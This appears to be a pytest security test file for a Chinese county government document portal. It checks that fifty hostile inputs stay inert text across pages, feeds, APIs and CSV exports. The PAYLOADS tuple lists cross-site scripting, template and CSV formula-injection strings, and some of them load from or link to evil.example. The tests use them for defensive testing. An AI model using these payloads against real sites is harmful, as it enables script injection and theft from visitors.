"""Input from documents and visitors stays text: fifty payloads, in every place shown, on every channel."""

import csv
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from io import StringIO
from pathlib import Path
from urllib.parse import quote

import pytest
from lxml import etree

from indexer import sync
from tests.conftest import Installation, Some, publish
from tests.web.conftest import Site, built, client_of
from web.app import HEADERS
from web.programs import lists

# What answers look like, which is alike over any database.
pytestmark = pytest.mark.page

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><x/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}{% raw %}${7*7}#{7*7}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '=HYPERLINK("//evil.example","x")',
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<script\x0c>alert(1)</script>",
)
# Our own pages use none of these. Their <script> elements have a src on this site, or hold data.
_ACTIVE = {"iframe", "object", "embed", "base", "style", "template", "math", "video", "marquee", "animate", "textarea"}


class _Live(HTMLParser):
    """A parser that collects what could run or fetch something on a page."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag in _ACTIVE or any(name.startswith("on") or name in ("style", "srcdoc", "formaction") for name in given):
            self.wrong.append(self.get_starttag_text() or tag)
        if (
            tag == "script"
            and not (given.get("src") or "").startswith("/static/")
            and given.get("type") != "application/ld+json"
        ):
            self.wrong.append(self.get_starttag_text() or tag)
        for name in ("href", "src", "action"):
            value = given.get(name)
            if value is not None and not re.match(r"/(?!/)|#|https?://(localhost|www\.yunxi\.example)", value):
                self.wrong.append(self.get_starttag_text() or tag)
        if tag == "meta" and given.get("http-equiv") and given.get("content") != "600; url=/forget":
            self.wrong.append(self.get_starttag_text() or tag)


def live(html: str) -> list[str]:
    found = _Live()
    found.feed(html)
    return found.wrong


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, installation: Installation) -> Iterator[Site]:
    """Make a document for each payload, with it in title, issuer, column, text, table, file name and attachment."""
    folder = tmp_path_factory.mktemp("hostile")
    lines = []
    for at, payload in enumerate(PAYLOADS):
        name = re.sub(r"[/\x00-\x1f]", "_", payload)[:60]
        (folder / f"{at}附件{name}.txt").write_text(f"附件{payload}\n", encoding="utf-8")
        lines.append(
            {
                "path": f"{at}{name}.txt",
                "text": f"云溪县{payload}的通知\n\n正文{payload}。\n甲{payload}\t乙\n丙\t丁{payload}\n",
                "title": f"云溪县{payload}的通知{at}",
                "number": f"云政发〔2019〕{at + 1}号",
                "issuer": f"云溪县{payload}局",
                "genre": "通知",
                "column": f"公开/{payload.replace('/', '_')[:40]}",
                "written_on": "2019-01-31",
                "source_url": f"http://www.yunxi.example/{payload}" if at % 2 else payload,
                "attachments": [f"{at}附件{name}.txt"],
            }
        )
    services, ids = built(folder, installation, lines)
    for id in ids.values():
        publish(services.catalogue, id)
    sync.catch_up(services.catalogue, services.engine)
    lists.make(services, lambda *_: None, lambda path: path)
    yield Site(services, client_of(services), ids)
    services.close()


def test_there_are_fifty() -> None:
    assert len(set(PAYLOADS)) == 50


def test_the_detector_sees_what_would_run() -> None:
    page = "<script src='/static/page.js'></script><a href='/x'>x</a>{}"
    assert live(page.format("")) == []
    for bad in (
        "<script>1</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=javascript:1>",
        "<base href=//e.example/>",
    ):
        assert live(page.format(bad)), bad


@pytest.mark.parametrize("look", ["", "elder=1", "terminal=1"])
def test_documents_are_inert_on_every_page(hostile: Site, look: str, some: Some) -> None:
    client = client_of(hostile.services)
    addresses = ["/", "/search?per_page=40", "/search?per_page=40&page=2", "/search?q=正文", "/browse/columns"]
    addresses += ["/browse/issuers", "/browse/numbers", "/browse/numbers/云政发/2019", "/search?sort=newest&page=2"]
    # Looks differ in the places that they show, not in how a place writes what is in it.
    ids = [*hostile.ids.values()]
    for id in some(ids) if look else ids:
        addresses += [f"/documents/{id}?q=正文", f"/documents/{id}/sheet"]
    for address in addresses:
        answer = client.get(f"{address}{'&' if '?' in address else '?'}{look}")
        assert answer.status_code == 200
        assert live(answer.text) == [], address


@pytest.mark.slow
@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_typed_is_inert_on_every_page(site: Site, payload: str) -> None:
    typed = quote(payload)
    for address in (
        *(f"/search?q={typed}", f"/search?genre={typed}", f"/search?q=x&column={typed}", f"/search?from={typed}"),
        *(f"/documents/{site.ids['低保.txt']}?q={typed}", f"/documents/{typed}", f"/?elder={typed}", f"/{typed}"),
        *(f"/browse/numbers/{typed}/2019", f"/help?x={typed}&contrast=1", f"/search?q=最低生活保障&sort={typed}"),
    ):
        # A new client has no cookies from earlier addresses.
        answer = site.client.application.test_client().get(address)
        assert answer.status_code < 500
        assert live(answer.text) == [], address
        assert not any("\r" in value or "\n" in value for _, value in answer.headers)
    for address in (
        f"/search.atom?q={typed}",
        f"/oai?verb={typed}",
        f"/oai?verb=GetRecord&metadataPrefix=oai_dc&identifier={typed}",
    ):
        answer = site.client.get(address)
        if "xml" in answer.content_type:
            assert not [
                each for each in etree.fromstring(answer.data).iter() if etree.QName(each).localname == "script"
            ]


def test_documents_are_inert_for_programs(hostile: Site) -> None:
    for address in (
        "/search.atom",
        "/oai?verb=ListRecords&metadataPrefix=oai_dc",
        "/oai?verb=ListSets",
        "/sitemaps/0.xml",
    ):
        answer = hostile.client.get(address)
        assert "xml" in answer.content_type and answer.headers["X-Content-Type-Options"] == "nosniff"
        names = {etree.QName(each).localname for each in etree.fromstring(answer.data).iter()}
        assert not names & {"script", "img", "svg", "iframe", "a", "form"}, address
    for address in ("/api/v1/documents", "/api/v1/search?per_page=40", "/api/v1/suggest?q=yunxi"):
        answer = hostile.client.get(address)
        assert answer.content_type == "application/json"
        assert json.loads(answer.text)
    lines = hostile.client.get("/documents.jsonl").text.splitlines()
    assert len([json.loads(line) for line in lines]) == len(PAYLOADS)
    for address in ("/search.csv", "/documents.csv"):
        text = hostile.client.get(address).data.decode("utf-8-sig")
        rows = list(csv.reader(StringIO(text)))
        assert {len(row) for row in rows} == {13}
        assert not [cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t\r")]


def test_an_original_is_sent_as_a_file_whatever_it_is_called(hostile: Site) -> None:
    for id in hostile.ids.values():
        for what in ("original", "attachments/1"):
            answer = hostile.client.get(f"/documents/{id}/{what}")
            assert answer.status_code == 200
            assert answer.headers["Content-Disposition"].startswith("attachment")
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
            assert not any("\r" in value or "\n" in value for _, value in answer.headers)


def test_every_answer_has_the_headers(hostile: Site, site: Site) -> None:
    id = site.ids["低保.txt"]
    addresses: tuple[str, ...] = (
        "/",
        "/search?q=x",
        f"/documents/{id}",
        f"/documents/{id}/original",
        "/nowhere",
        "/search?page=x",
        "/forget",
    )
    addresses += (
        "/api/v1/search",
        "/api/v1/nowhere",
        "/oai",
        "/search.atom",
        "/search.csv",
        "/static/style.css",
        "/readyz",
    )
    addresses += (f"/documents/{site.ids['撤回.txt']}", "/robots.txt", "/sitemap.xml", "/documents.csv")
    for address in addresses:
        answer = site.client.get(address)
        assert {name: answer.headers[name] for name in HEADERS} == HEADERS, address
        assert "unsafe" not in answer.headers["Content-Security-Policy"]


def test_the_payloads_are_kept_as_they_are(hostile: Site, tmp_path: Path) -> None:
    """Show payloads to readers as text rather than removing them."""
    titles = [each["title"] for each in (hostile.client.get("/api/v1/documents").json or {})["documents"]]
    assert sum("<script>alert(1)</script>" in title for title in titles) >= 5
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in hostile.client.get("/search?per_page=40").text
